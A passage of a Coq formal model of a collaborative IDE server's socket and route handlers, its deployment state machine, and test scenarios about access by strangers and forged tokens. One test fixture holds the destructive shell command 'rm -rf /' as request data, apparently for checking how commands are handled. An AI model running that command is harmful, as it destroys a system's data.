  length (db_gitOperations (db w')) = S (length (db_gitOperations (db w))) /\
  existsb (is_team_git (g_roomId data)) (emitted (git_operation socket data) w) = true /\
  existsb is_git_result (emitted (git_operation socket data) w) = true.

Definition git_status : GitData :=
  {| g_roomId := "r1"; g_projectId := "p1"; g_operation := "status"; g_params := None |}.

(** The workspace is not a git repository: the command exits with an
    error. *)
Definition not_a_repository : World :=
  WorldOps.set_oracle
    [Fault "" "fatal: not a git repository" "Command failed: git status --porcelain"]
    Fixture.world.

Definition command_error (socket : IDESocket) (message : string) : Emit :=
  {| em_from := Some (sid socket); em_target := ToSender;
     em_recipients := {[ sid socket ]}; em_event := EvCommandError message |}.

Definition is_command_error (e : Emit) : bool :=
  match em_event e with
  | EvCommandError _ => true
  | _ => false
  end.

Definition rm_rf : CommandData :=
  {| cm_roomId := "r1"; cm_projectId := "p1"; cm_command := "rm -rf /";
     cm_workingDirectory := None |}.

Definition npm_test : CommandData :=
  {| cm_roomId := "r1"; cm_projectId := "p1"; cm_command := "npm run test";
     cm_workingDirectory := None |}.

Definition tests_fail : World :=
  WorldOps.set_oracle [Fault "1 failing" "" "Command failed: npm run test"] Fixture.world.

Definition pull_p1 : PullData :=
  {| pl_roomId := "r1"; pl_projectId := "p1"; pl_lastSync := None |}.

(** The world in which the loop of sync-files reaches a file, having
    gone through the files before it in the batch. *)
Definition reached (projectId : string) (before : list IncomingFile) (w : World) : World :=
  exec_world (sync_loop projectId before) w.

(** The row that sync-files creates for an incoming file. *)
Definition created_file (projectId : string) (file : IncomingFile) (w : World)
    : ProjectFile :=
  {| file_id := match uuids w with [] => "" | u :: _ => u end;
     file_name := Path.basename (relativePath file);
     file_path := relativePath file;
     file_content := content file;
     file_language := getLanguageFromExtension (relativePath file);
     file_projectId := projectId;
     file_updatedAt := clock w |}.

Definition newer : IncomingFile :=
  {| relativePath := "a.txt"; content := "v1"; lastModified := 100 |}.
Definition stale : IncomingFile :=
  {| relativePath := "a.txt"; content := "v2"; lastModified := 40 |}.
Definition fresh : IncomingFile :=
  {| relativePath := "src/b.ts"; content := "export {}"; lastModified := 7 |}.

(** The three in one batch for the project p1 and the room r1. *)
Definition three_files : SyncData :=
  {| sy_roomId := "r1"; sy_projectId := "p1"; sy_files := [newer; stale; fresh] |}.

Definition git_result (socket : IDESocket) (operation stdout stderr : string) (ok : bool)
    : Emit :=
  {| em_from := Some (sid socket); em_target := ToSender;
     em_recipients := {[ sid socket ]};
     em_event := EvGitResult operation stdout stderr ok |}.

End BridgeClaims.

Module DeploymentClaims.
Import Deployment.

(** The caller neither owns nor belongs to the room of any project with
    the id given. *)
Definition no_access (d : Db) (projectId uid : string) : Prop :=
  forall p r,
    In p (db_projects d) -> project_id p = projectId ->
    In r (db_rooms d) -> room_id r = project_roomId p ->
    room_ownerId r <> uid /\
    ~ (exists m, In m (db_members d) /\ member_roomId m = room_id r /\
                 member_userId m = uid).

Definition deployment_error (socket message : string) : Emit :=
  {| em_from := Some socket; em_target := ToSender; em_recipients := {[ socket ]};
     em_event := EvDeploymentError None message |}.

(** A deployment cancelled at [now]: failed, with the cancellation as
    its error and [now] as its end time, and otherwise as it was. *)
Definition cancelled (now : Z) (d : DeploymentStatus) : DeploymentStatus :=
  {| dep_id := dep_id d; dep_status := failed; dep_progress := dep_progress d;
     dep_logs := dep_logs d; dep_url := dep_url d;
     dep_error := Some "Cancelled by user";
     dep_startTime := dep_startTime d; dep_endTime := Some now |}.

(** The row of a deployment cancelled at [now]. *)
Definition cancelled_row (now : Z) (r : DeploymentRow) : DeploymentRow :=
  {| dr_id := dr_id r; dr_projectId := dr_projectId r; dr_userId := dr_userId r;
     dr_provider := dr_provider r; dr_status := "FAILED"; dr_url := dr_url r;
     dr_config := dr_config r; dr_logs := dr_logs r;
     dr_error := Some "Cancelled by user"; dr_endedAt := Some now |}.

(** The two notices of a cancellation: to the caller, and to the others
    of the room the caller named. *)
Definition cancel_notices (socket : string) (data : CancelData) (w : World) : list Emit :=
  [ {| em_from := Some socket; em_target := ToSender; em_recipients := {[ socket ]};
       em_event := EvDeploymentCancelled (cd_deploymentId data) |};
    {| em_from := Some socket; em_target := ToRoomOthers (cd_roomId data);
       em_recipients := subscribers (adapter w) (cd_roomId data) ∖ {[ socket ]};
       em_event := EvTeamDeploymentCancelled (cd_deploymentId data) (clock w) |} ].

(** The status sequences of the state machine of the specification. *)
Definition machine : list (list Status) :=
  [ [pending; building; deploying; success];
    [pending; building; failed];
    [pending; building; deploying; failed] ].

(** A sequence of statuses is lawful when it is a prefix of a sequence
    of the state machine. *)
Definition lawful (l : list Status) : Prop :=
  exists full, In full machine /\ l `prefix_of` full.

(** The deployment claim as the specification words it: whatever the
    task and the cancel requests do to a deployment that was started, the
    statuses it takes are a lawful sequence. *)
Definition deployment_claim (jwt : string -> option string) (starter : string)
    (data : StartData) (w0 : World) (steps : list Step) : Prop :=
  forall ctx w,
    start_head jwt starter data w0 = (Ok (Some ctx), w) ->
    lawful (status_sequence (c_deploymentId ctx)
              (snd (run jwt ctx starter steps (AtCreate, w)))).

(** The awaited call that follows the success update (the update of the
    store, then the removal of the working directory) goes through. *)
Definition settles (ctx : Ctx) (st : Pc * World) (now : Z) : bool :=
  match fst st with
  | AtRecord _ | AtCleanup =>
      match stage ctx (fst st) (WorldOps.set_clock now (snd st)) with
      | (Ok _, _) => true
      | (Throw _, _) => false
      end
  | _ => true
  end.

(** A cancel request that finds the deployment pending or building:
    its token verifies, and the deployment is in the table with one of
    the two statuses. *)
Definition cancels (jwt : string -> option string) (ctx : Ctx) (token : string)
    (w : World) : bool :=
  match jwt token, activeDeployments w !! c_deploymentId ctx with
  | Some _, Some d =>
      match dep_status d with
      | pending | building => true
      | _ => false
      end
  | _, _ => false
  end.

(** A run in which no cancel request finds the deployment pending or
    building, and in which what follows the success update goes
    through.  Cancel requests handled at another time are part of the
    run. *)
Fixpoint undisturbed (jwt : string -> option string) (ctx : Ctx) (starter : string)
    (steps : list Step) (st : Pc * World) : bool :=
  match steps with
  | [] => true
  | Cancel now socket token roomId :: rest =>
      negb (cancels jwt ctx token (snd st)) &&
      undisturbed jwt ctx starter rest
        (step jwt ctx starter (Cancel now socket token roomId) st)
  | Resume now :: rest =>
      settles ctx st now &&
      undisturbed jwt ctx starter rest (step jwt ctx starter (Resume now) st)
  end.

(** What the task has done to the sequence when it stands at [pc]. *)
Definition seq_at (pc : Pc) (s : list Status) : Prop :=
  match pc with
  | AtCreate => s = [pending]
  | AtMkdir | AtWriteFiles | AtInstall | AtBuild => s = [pending; building]
  | AtProvider => s = [pending; building; deploying]
  | AtRecord _ | AtCleanup => s = [pending; building; deploying; success]
  | Finished =>
      s = [pending] \/ s = [pending; building; failed] \/
      s = [pending; building; deploying; failed] \/
      s = [pending; building; deploying; success]
  end.

(** One more write of a status, on a sequence of statuses taken. *)
Definition absorb (s : list Status) (x : Status) : list Status :=
  if decide (last s = Some x) then s else s ++ [x].

Definition start_p1 : StartData :=
  {| sd_token := "tok-ann"; sd_roomId := "r1"; sd_projectId := "p1";
     sd_config := Fixture.config |}.

Definition eve_starts_p1 : StartData :=
  {| sd_token := "tok-eve"; sd_roomId := "r2"; sd_projectId := "p1";
     sd_config := Fixture.config |}.

(** Ann's deployment of p1, as start-deployment enters it in the table. *)
Definition ann_ctx : Ctx :=
  {| c_deploymentId := "id-1";
     c_project := {| project_id := "p1"; project_name := "site"; project_roomId := "r1" |};
     c_files := db_files Fixture.store;
     c_room := Some {| room_id := "r1"; room_name := "lab"; room_ownerId := "ann";
                       room_isPublic := true |};
     c_config := Fixture.config;
     c_user := Fixture.ann;
     c_roomId := "r1" |}.

(** The world in which Ann's deployment of p1 is building. *)
Definition building_world : World :=
  snd (run Fixture.jwt_verify ann_ctx "s-ann" [Resume 1001]
         (AtCreate,
          exec_world (start_head Fixture.jwt_verify "s-ann" start_p1) Fixture.world)).

(** Eve cancels Ann's deployment while it is building; the task goes on. *)
Definition cancelled_while_building : list Step :=
  [ Resume 1001; Cancel 1002 "s-eve" "tok-eve" "r2";
    Resume 1003; Resume 1004; Resume 1005; Resume 1006; Resume 1007; Resume 1008 ].

(** No cancel request; the task runs to its end. *)
Definition left_alone : list Step :=
  [ Resume 1001; Resume 1003; Resume 1004; Resume 1005; Resume 1006; Resume 1007;
    Resume 1008 ].

(** The task runs to its end; Eve's cancel request, and one with a
    forged token, come after the success. *)
Definition cancelled_too_late : list Step :=
  left_alone ++ [ Cancel 1009 "s-eve" "tok-eve" "r2"; Cancel 1010 "s-x" "forged" "r1" ].

(** The world in which Ann's deployment, left alone, has succeeded. *)
Definition succeeded_world : World :=
  snd (run Fixture.jwt_verify ann_ctx "s-ann" left_alone
         (AtCreate,
          exec_world (start_head Fixture.jwt_verify "s-ann" start_p1) Fixture.world)).

(** The store goes down once the deployment has succeeded: the two
    queries of start-deployment, the creation of the row, the directory,
    the two writes of the one file go through; neither manifest is found;
    the update of the row after the success faults. *)
Definition store_down_after_success : World :=
  WorldOps.set_oracle
    [ Fine "" ""; Fine "" ""; Fine "" ""; Fine "" ""; Fine "" ""; Fine "" "";
      Fault "" "" "ENOENT"; Fault "" "" "ENOENT"; Fault "" "" "store down" ]
    Fixture.world.

End DeploymentClaims.

(** ** The rest of the handlers

    The handlers below emit events of their own, and the IDE bridge
    keeps a table of its connections in the store.  They run on a
    [Server]: a world, the events of these handlers that were posted, and
    the rows of the IDEConnection table. *)

Inductive Notice :=
  | NoUserLeft (u : User) (timestamp : Z)
  | NoFileCreated (file : ProjectFile) (u : User) (timestamp : Z)
  | NoFileDeleted (fileId : string) (u : User) (timestamp : Z)
  | NoRegistrationError (message : string)
  | NoIdeRegistered (connectionId : string) (u : User)
  | NoIdeConnected (connectionId : string) (u : User) (ideType : string) (timestamp : Z)
  | NoIdeDisconnected (connectionId : string) (u : option User) (ideType : string)
      (timestamp : Z)
  | NoForceSync (timestamp : Z)
  | NoDeploymentStatus (d : DeploymentStatus).

Record Posted := {
  po_from : option string;
  po_target : Target;
  po_recipients : gset string;
  po_notice : Notice }.

(** A row of the IDEConnection table. *)
Record IDEConnectionRow := {
  icr_id : string; icr_userId : string; icr_roomId : string; icr_ideType : string;
  icr_version : string; icr_workspacePath : string; icr_status : string }.

Record Server := {
  base : World;
  posted : list Posted;
  ide_rows : list IDEConnectionRow }.

Definition H (A : Type) : Type := Server -> Result A * Server.

Definition hret {A} (a : A) : H A := fun s => (Ok a, s).

Definition hbind {A B} (c : H A) (k : A -> H B) : H B :=
  fun s => match c s with
           | (Ok a, s') => k a s'
           | (Throw e, s') => (Throw e, s')
           end.

Definition hthrow {A} (e : Error) : H A := fun s => (Throw e, s).

Definition htry {A} (body : H A) (handler : Error -> H A) : H A :=
  fun s => match body s with
           | (Ok a, s') => (Ok a, s')
           | (Throw e, s') => handler e s'
           end.

Declare Scope handler_scope.
Notation "x <- c1 ;; c2" := (hbind c1 (fun x => c2))
  (at level 100, c1 at next level, c2 at level 200, right associativity) : handler_scope.
Notation "c1 ;; c2" := (hbind c1 (fun _ => c2))
  (at level 100, c2 at level 200, right associativity) : handler_scope.

(** A handler step on the world. *)
Definition lift {A} (c : M A) : H A :=
  fun s => let (r, w) := c (base s) in
           (r, {| base := w; posted := posted s; ide_rows := ide_rows s |}).

(** An emit of one of the events above, resolved against the adapter. *)
Definition post (from : option string) (t : Target) (n : Notice) : H unit :=
  fun s => (Ok tt,
            {| base := base s;
               posted := posted s ++
                 [{| po_from := from; po_target := t;
                     po_recipients := resolve (adapter (base s)) from t;
                     po_notice := n |}];
               ide_rows := ide_rows s |}).

(** An awaited Prisma call on the IDEConnection table; the call sees
    the rest of the store, which the foreign keys of the table refer
    to. *)
Definition prisma_ide {A}
    (op : Db -> list IDEConnectionRow -> Result A * list IDEConnectionRow) : H A :=
  hbind (lift await_ext) (fun e =>
    match e with
    | Fault _ _ m => hthrow (plain_error m)
    | Fine _ _ =>
        fun s => let (r, t) := op (db (base s)) (ide_rows s) in
                 (r, {| base := base s; posted := posted s; ide_rows := t |})
    end).

Definition exec_server {A} (c : H A) (s : Server) : Server := snd (c s).
Definition eval_server {A} (c : H A) (s : Server) : Result A := fst (c s).

(** The events a handler posted when run on [s]. *)
Definition posts {A} (c : H A) (s : Server) : list Posted :=
  drop (length (posted s)) (posted (exec_server c s)).

(** The messages of the first kind it emitted. *)
Definition emits {A} (c : H A) (s : Server) : list Emit :=
  drop (length (outbox (base s))) (outbox (base (exec_server c s))).

(** socket.leave(room): the adapter drops a room that is left empty. *)
Definition leave (s : string) (room : string) (ad : gmap string (gset string))
    : gmap string (gset string) :=
  let rest := subscribers ad room ∖ {[ s ]} in
  if decide (rest = ∅) then delete room ad else <[ room := rest ]> ad.

Definition socket_leave (s : string) (room : string) : M unit :=
  fun w => (Ok tt, WorldOps.set_adapter (leave s room) w).

(** What socket.io does before the disconnect event: the socket leaves
    every room. *)
Definition socket_leave_all (s : string) : M unit :=
  fun w => (Ok tt,
            WorldOps.set_adapter
              (fun ad => filter (fun kv => snd kv <> ∅) ((fun x => x ∖ {[ s ]}) <$> ad)) w).

(** *** collaboration.ts, the other events *)

Module CollaborationMore.
Local Open Scope handler_scope.

Record NewFile := {
  nf_name : string; nf_path : string; nf_content : string; nf_language : option string }.

Record FileCreatedData := { fc_roomId : string; fc_projectId : string; fc_file : NewFile }.

Record FileDeletedData := { fd_roomId : string; fd_fileId : string }.

(** prisma.projectFile.delete({ where: { id } }): rejects when no row
    has the id. *)
Definition projectFile_delete (id : string) (d : Db) : Result unit * Db :=
  if existsb (fun f => String.eqb (file_id f) id) (db_files d)
  then (Ok tt,
        Store.set_files (List.filter (fun f => negb (String.eqb (file_id f) id))) d)
  else (Store.not_found, d).

(** socket.on('leave-room', ...) *)
Definition leave_room (socket : AuthenticatedSocket) (roomId : string) : H unit :=
  lift (socket_leave (a_sid socket) roomId) ;;
  t <- lift new_Date ;;
  post (Some (a_sid socket)) (ToRoomOthers roomId) (NoUserLeft (a_user socket) t).

(** socket.on('file-created', ...); a language left out is stored as
    the empty string. *)
Definition file_created (socket : AuthenticatedSocket) (data : FileCreatedData) : H unit :=
  htry
    (project <- lift (prisma (query (Store.project_findFirst (fc_projectId data)
                                       (a_userId socket)))) ;;
     match project with
     | None =>
         lift (socket_emit (a_sid socket) (EvError "Project not found or access denied"))
     | Some _ =>
         id <- lift generated_id ;;
         now <- lift new_Date ;;
         newFile <- lift (prisma (Store.projectFile_create
                       {| file_id := id;
                          file_name := nf_name (fc_file data);
                          file_path := nf_path (fc_file data);
                          file_content := nf_content (fc_file data);
                          file_language := default "" (nf_language (fc_file data));
                          file_projectId := fc_projectId data;
                          file_updatedAt := now |})) ;;
         t <- lift new_Date ;;
         post None (ToRoom (fc_roomId data)) (NoFileCreated newFile (a_user socket) t)
     end)
    (fun error =>
       lift (console_error ("File creation error: " +:+ err_message error)) ;;
       lift (socket_emit (a_sid socket) (EvError "Failed to create file"))).

(** socket.on('file-deleted', ...) *)
Definition file_deleted (socket : AuthenticatedSocket) (data : FileDeletedData) : H unit :=
  htry
    (file <- lift (prisma (query (Store.projectFile_findFirst (fd_fileId data)
                                    (a_userId socket)))) ;;
     match file with
     | None =>
         lift (socket_emit (a_sid socket) (EvError "File not found or access denied"))
     | Some _ =>
         lift (prisma (projectFile_delete (fd_fileId data))) ;;
         t <- lift new_Date ;;
         post None (ToRoom (fd_roomId data))
           (NoFileDeleted (fd_fileId data) (a_user socket) t)
     end)
    (fun error =>
       lift (console_error ("File deletion error: " +:+ err_message error)) ;;
       lift (socket_emit (a_sid socket) (EvError "Failed to delete file"))).

(** socket.on('disconnect', ...): the handler only logs; the socket has
    left its rooms. *)
Definition disconnect (socket : AuthenticatedSocket) : H unit :=
  lift (socket_leave_all (a_sid socket)).

End CollaborationMore.

(** *** The room routes (the second half of collaboration.ts)

    The routes run behind the authenticateToken middleware, which is not
    among the sources: the id of the user it resolves is an argument. *)

Module Rooms.

Record FileSummary := {
  fs_id : string; fs_name : string; fs_path : string; fs_language : string }.

Inductive Body :=
  | BodyError (error : string)
  | BodyMessage (message : string)
  | BodyRoom (room : Room) (owner : option User)
      (members : list (RoomMember * option User))
      (projects : list (Project * list FileSummary)).

(** res.status(code).json(body) *)
Record Response := { res_status : nat; res_body : Body }.

(** OR: [ { ownerId }, { members: { some: { userId } } }, { isPublic: true } ] *)
Definition readable (d : Db) (uid : string) (r : Room) : bool :=
  String.eqb (room_ownerId r) uid || Store.members_some d (room_id r) uid ||
  room_isPublic r.

(** prisma.room.findFirst({ where: { id, OR: [...] }, include }) *)
Definition room_findReadable (id uid : string) (d : Db) : option Room :=
  find (fun r => String.eqb (room_id r) id && readable d uid r) (db_rooms d).

(** prisma.room.findUnique({ where: { id } }) *)
Definition room_findUnique (id : string) (d : Db) : option Room :=
  find (fun r => String.eqb (room_id r) id) (db_rooms d).

Definition summary (f : ProjectFile) : FileSummary :=
  {| fs_id := file_id f; fs_name := file_name f; fs_path := file_path f;
     fs_language := file_language f |}.

(** include: { owner, members: { include: { user } }, projects: { include: { files } } } *)
Definition room_body (d : Db) (r : Room) : Body :=
  BodyRoom r
    (Store.user_findUnique (room_ownerId r) d)
    ((fun m => (m, Store.user_findUnique (member_userId m) d)) <$>
       List.filter (fun m => String.eqb (member_roomId m) (room_id r)) (db_members d))
    ((fun p => (p, summary <$>
                     List.filter (fun f => String.eqb (file_projectId f) (project_id p))
                                 (db_files d))) <$>
       List.filter (fun p => String.eqb (project_roomId p) (room_id r)) (db_projects d)).

Definition set_members (f : list RoomMember -> list RoomMember) (d : Db) : Db :=
  {| db_users := db_users d; db_rooms := db_rooms d; db_members := f (db_members d);
     db_projects := db_projects d; db_files := db_files d;
     db_cursors := db_cursors d; db_deployments := db_deployments d;
     db_gitOperations := db_gitOperations d |}.

(** prisma.roomMember.deleteMany({ where: { userId, roomId } }) *)
Definition roomMember_deleteMany (uid roomId : string) (d : Db) : Result unit * Db :=
  (Ok tt,
   set_members (List.filter (fun m => negb (String.eqb (member_userId m) uid &&
                                            String.eqb (member_roomId m) roomId))) d).

Definition internal_error (what : string) (error : Error) : M Response :=
  console_error (what +:+ err_message error) ;;
  ret {| res_status := 500; res_body := BodyError "Internal server error" |}.

(** router.get('/:id', ...) *)
Definition get_room (uid id : string) : M Response :=
  try_catch
    (d <- prisma (query (fun d => (d, room_findReadable id uid d))) ;;
     match snd d with
     | None =>
         ret {| res_status := 404; res_body := BodyError "Room not found or access denied" |}
     | Some room => ret {| res_status := 200; res_body := room_body (fst d) room |}
     end)
    (internal_error "Get room error: ").

(** router.post('/:id/leave', ...) *)
Definition leave (uid id : string) : M Response :=
  try_catch
    (room <- prisma (query (room_findUnique id)) ;;
     match room with
     | None => ret {| res_status := 404; res_body := BodyError "Room not found" |}
     | Some room =>
         if String.eqb (room_ownerId room) uid
         then ret {| res_status := 400;
                     res_body := BodyError "Room owner cannot leave the room" |}
         else
           prisma (roomMember_deleteMany uid id) ;;
           ret {| res_status := 200; res_body := BodyMessage "Left room successfully" |}
     end)
    (internal_error "Leave room error: ").

End Rooms.

(** *** The IDE bridge: registration, disconnection, the active connections *)

Module IDEBridgeMore.
Local Open Scope handler_scope.

Record RegisterData := {
  rg_token : string; rg_ideType : string; rg_version : string;
  rg_workspacePath : string; rg_roomId : string }.

(** ideConnections.set(id, connection): a Map keeps the place of a key
    it already has. *)
Definition map_set (c : IDEConnection) (l : list IDEConnection) : list IDEConnection :=
  if existsb (fun c' => String.eqb (ic_id c') (ic_id c)) l
  then map (fun c' => if String.eqb (ic_id c') (ic_id c) then c else c') l
  else l ++ [c].

(** ideConnections.delete(id) *)
Definition map_delete (id : string) (l : list IDEConnection) : list IDEConnection :=
  List.filter (fun c => negb (String.eqb (ic_id c) id)) l.

(** Array.from(ideConnections.values()).find(c => c.socketId === socket.id) *)
Definition connection_of (socketId : string) (w : World) : option IDEConnection :=
  find (fun c => String.eqb (ic_socketId c) socketId) (ideConnections w).

Definition is_connected (c : IDEConnection) : bool :=
  match ic_status c with
  | connected => true
  | _ => false
  end.

(** getActiveConnections(roomId) *)
Definition getActiveConnections (roomId : string) (w : World) : list IDEConnection :=
  List.filter (fun c => String.eqb (ic_roomId c) roomId && is_connected c)
              (ideConnections w).

(** prisma.iDEConnection.create({ data }): the table has a foreign key
    on userId and one on roomId (add_ide_integration.sql); the insert is
    rejected when the user or the room is not there. *)
Definition ideConnection_create (r : IDEConnectionRow) (d : Db) (t : list IDEConnectionRow)
    : Result unit * list IDEConnectionRow :=
  if Store.user_exists (icr_userId r) d
  then if Store.room_exists (icr_roomId r) d
       then (Ok tt, t ++ [r])
       else (Store.foreign_key "IDEConnection_roomId_fkey", t)
  else (Store.foreign_key "IDEConnection_userId_fkey", t).

(** prisma.iDEConnection.update({ where: { id }, data: { status } }):
    rejects when no row has the id. *)
Definition ideConnection_update (id status : string) (d : Db) (t : list IDEConnectionRow)
    : Result unit * list IDEConnectionRow :=
  if existsb (fun r => String.eqb (icr_id r) id) t
  then (Ok tt,
        map (fun r => if String.eqb (icr_id r) id
                      then {| icr_id := icr_id r; icr_userId := icr_userId r;
                              icr_roomId := icr_roomId r; icr_ideType := icr_ideType r;
                              icr_version := icr_version r;
                              icr_workspacePath := icr_workspacePath r;
                              icr_status := status |}
                      else r) t)
  else (Store.not_found, t).

Section Handlers.

Variable jwt_verify : string -> option string.

Definition registration_failed (socket : IDESocket) (error : Error) : H unit :=
  lift (console_error ("IDE registration error: " +:+ err_message error)) ;;
  post (Some (sid socket)) ToSender (NoRegistrationError "Failed to register IDE").

(** socket.on('register-ide', ...): the fields the handler sets on the
    socket are those of the socket it returns.  The one catch block of
    the handler is written twice, for a throw before and for a throw
    after the fields are set. *)
Definition register_ide (socket : IDESocket) (data : RegisterData) : H IDESocket :=
  htry
    (decoded <- lift (Deployment.verify jwt_verify (rg_token data)) ;;
     found <- lift (prisma (query (Store.user_findUnique decoded))) ;;
     match found with
     | None =>
         post (Some (sid socket)) ToSender (NoRegistrationError "Invalid token") ;;
         hret socket
     | Some u =>
         let registered :=
           {| sid := sid socket; userId := Some (user_id u); user := Some u;
              ideInfo := Some {| ide_type := rg_ideType data;
                                 ide_version := rg_version data;
                                 ide_workspacePath := rg_workspacePath data |} |} in
         htry
           (connectionId <- lift randomUUID ;;
            t <- lift new_Date ;;
            lift (fun w => (Ok tt,
                    WorldOps.set_ideConnections
                      (map_set {| ic_id := connectionId; ic_userId := user_id u;
                                  ic_roomId := rg_roomId data;
                                  ic_ideType := rg_ideType data;
                                  ic_version := rg_version data;
                                  ic_workspacePath := rg_workspacePath data;
                                  ic_status := connected; ic_lastSync := t;
                                  ic_socketId := sid socket |}) w)) ;;
            lift (socket_join (sid socket) (rg_roomId data)) ;;
            prisma_ide (ideConnection_create
                          {| icr_id := connectionId; icr_userId := user_id u;
                             icr_roomId := rg_roomId data;
                             icr_ideType := rg_ideType data;
                             icr_version := rg_version data;
                             icr_workspacePath := rg_workspacePath data;
                             icr_status := "CONNECTED" |}) ;;
            post (Some (sid socket)) ToSender (NoIdeRegistered connectionId u) ;;
            t' <- lift new_Date ;;
            post (Some (sid socket)) (ToRoomOthers (rg_roomId data))
              (NoIdeConnected connectionId u (rg_ideType data) t') ;;
            hret registered)
           (fun error => registration_failed socket error ;; hret registered)
     end)
    (fun error => registration_failed socket error ;; hret socket).

End Handlers.

(** socket.on('disconnect', ...) of the /ide namespace: the handler has
    no catch, a rejected update of the row ends it. *)
Definition disconnect (socket : IDESocket) : H unit :=
  lift (socket_leave_all (sid socket)) ;;
  found <- lift (fun w => (Ok (connection_of (sid socket) w), w)) ;;
  match found with
  | None => hret tt
  | Some connection =>
      lift (fun w => (Ok tt,
              WorldOps.set_ideConnections (map_delete (ic_id connection)) w)) ;;
      prisma_ide (ideConnection_update (ic_id connection) "DISCONNECTED") ;;
      t <- lift new_Date ;;
      post (Some (sid socket)) (ToRoomOthers (ic_roomId connection))
        (NoIdeDisconnected (ic_id connection) (user socket) (ic_ideType connection) t)
  end.

(** this.io.of('/ide').to(connection.socketId).emit('force-sync', ...):
    the room is the one every socket joins under its own id. *)
Definition force_sync (socketId : string) : H unit :=
  t <- lift new_Date ;;
  post None (ToRoom socketId) (NoForceSync t).

Fixpoint force_all (connections : list IDEConnection) : H unit :=
  match connections with
  | [] => hret tt
  | c :: rest => force_sync (ic_socketId c) ;; force_all rest
  end.

(** syncAllIDEs(roomId) *)
Definition syncAllIDEs (roomId : string) : H unit :=
  active <- lift (fun w => (Ok (getActiveConnections roomId w), w)) ;;
  force_all active.

End IDEBridgeMore.

(** *** deployment.ts: the status lookup and the retention *)

Module DeploymentMore.
Local Open Scope handler_scope.

(** socket.on('get-deployment-status', ...) *)
Definition get_deployment_status (socket : string) (deploymentId : string) : H unit :=
  found <- lift (Deployment.get_deployment deploymentId) ;;
  match found with
  | Some deployment => post (Some socket) ToSender (NoDeploymentStatus deployment)
  | None => lift (socket_emit socket (EvDeploymentError None "Deployment not found"))
  end.

(** getDeploymentStatus(deploymentId) *)
Definition getDeploymentStatus (deploymentId : string) : M (option DeploymentStatus) :=
  Deployment.get_deployment deploymentId.

(** 2 * 24 * 60 * 60 * 1000 *)
Definition two_days : Z := 2 * 24 * 60 * 60 * 1000.

(** deployment.endTime && deployment.endTime < twoDaysAgo *)
Definition old (now : Z) (d : DeploymentStatus) : bool :=
  match dep_endTime d with
  | Some t => (t <? now - two_days)%Z
  | None => false
  end.

(** cleanupOldDeployments() *)
Definition cleanupOldDeployments : M unit :=
  fun w => (Ok tt,
            WorldOps.set_activeDeployments
              (filter (fun kv => old (clock w) (snd kv) = false)) w).

End DeploymentMore.

(** ** Further observations *)

(** What an update of the content of the file [id] makes of a row. *)
Definition rewrite_file (id c : string) (now : Z) (f : ProjectFile) : ProjectFile :=
  if String.eqb (file_id f) id then Store.write_content c now f else f.

(** The cursor rows of a user on a file. *)
Definition cursors_of (uid fileId : string) (d : Db) : list Cursor :=
  List.filter (Store.same_cursor uid fileId) (db_cursors d).

(** The cursor rows of everybody else, and on every other file. *)
Definition other_cursors (uid fileId : string) (d : Db) : list Cursor :=
  List.filter (fun c => negb (Store.same_cursor uid fileId c)) (db_cursors d).

(** The row that file-created writes. *)
Definition created_row (socket : AuthenticatedSocket)
    (data : CollaborationMore.FileCreatedData) (w : World) : ProjectFile :=
  {| file_id := match uuids w with [] => "" | u :: _ => u end;
     file_name := CollaborationMore.nf_name (CollaborationMore.fc_file data);
     file_path := CollaborationMore.nf_path (CollaborationMore.fc_file data);
     file_content := CollaborationMore.nf_content (CollaborationMore.fc_file data);
     file_language := default "" (CollaborationMore.nf_language
                                    (CollaborationMore.fc_file data));
     file_projectId := CollaborationMore.fc_projectId data;
     file_updatedAt := clock w |}.


(** The next identifier crypto.randomUUID() gives. *)
Definition next_uuid (w : World) : string :=
  match uuids w with [] => "" | u :: _ => u end.

(** The socket as register-ide leaves it for the user [u]. *)
Definition registered_as (socket : IDESocket) (u : User) (data : IDEBridgeMore.RegisterData)
    : IDESocket :=
  {| sid := sid socket; userId := Some (user_id u); user := Some u;
     ideInfo := Some {| ide_type := IDEBridgeMore.rg_ideType data;
                        ide_version := IDEBridgeMore.rg_version data;
                        ide_workspacePath := IDEBridgeMore.rg_workspacePath data |} |}.

(** The connection that register-ide puts in the map. *)
Definition connection_for (socket : IDESocket) (u : User) (data : IDEBridgeMore.RegisterData)
    (w : World) : IDEConnection :=
  {| ic_id := next_uuid w; ic_userId := user_id u;
     ic_roomId := IDEBridgeMore.rg_roomId data;
     ic_ideType := IDEBridgeMore.rg_ideType data;
     ic_version := IDEBridgeMore.rg_version data;
     ic_workspacePath := IDEBridgeMore.rg_workspacePath data;
     ic_status := connected; ic_lastSync := clock w; ic_socketId := sid socket |}.

(** The row that register-ide stores. *)
Definition row_for (u : User) (data : IDEBridgeMore.RegisterData) (w : World)
    : IDEConnectionRow :=
  {| icr_id := next_uuid w; icr_userId := user_id u;
     icr_roomId := IDEBridgeMore.rg_roomId data;
     icr_ideType := IDEBridgeMore.rg_ideType data;
     icr_version := IDEBridgeMore.rg_version data;
     icr_workspacePath := IDEBridgeMore.rg_workspacePath data;
     icr_status := "CONNECTED" |}.

Definition registration_error (socket : IDESocket) (message : string) : Posted :=
  {| po_from := Some (sid socket); po_target := ToSender;
     po_recipients := {[ sid socket ]}; po_notice := NoRegistrationError message |}.

(** Eve's editor asks for the room r1, to which she is a stranger. *)
Definition eve_registers : IDEBridgeMore.RegisterData :=
  {| IDEBridgeMore.rg_token := "tok-eve"; IDEBridgeMore.rg_ideType := "vscode";
     IDEBridgeMore.rg_version := "1.0"; IDEBridgeMore.rg_workspacePath := "/home/eve";
     IDEBridgeMore.rg_roomId := "r1" |}.

(** Eve's editor asks for a room that is not in the store. *)
Definition eve_registers_nowhere : IDEBridgeMore.RegisterData :=
  {| IDEBridgeMore.rg_token := "tok-eve"; IDEBridgeMore.rg_ideType := "vscode";
     IDEBridgeMore.rg_version := "1.0"; IDEBridgeMore.rg_workspacePath := "/home/eve";
     IDEBridgeMore.rg_roomId := "r9" |}.

Definition fresh_socket (id : string) : IDESocket :=
  {| sid := id; userId := None; user := None; ideInfo := None |}.

Definition server_of (w : World) : Server := {| base := w; posted := []; ide_rows := [] |}.

(** The row of a connection once its socket has gone. *)
Definition disconnected_row (r : IDEConnectionRow) : IDEConnectionRow :=
  {| icr_id := icr_id r; icr_userId := icr_userId r; icr_roomId := icr_roomId r;
     icr_ideType := icr_ideType r; icr_version := icr_version r;
     icr_workspacePath := icr_workspacePath r; icr_status := "DISCONNECTED" |}.

(** Eve's editor registered twice over one socket. *)
Definition registered_twice : Server :=
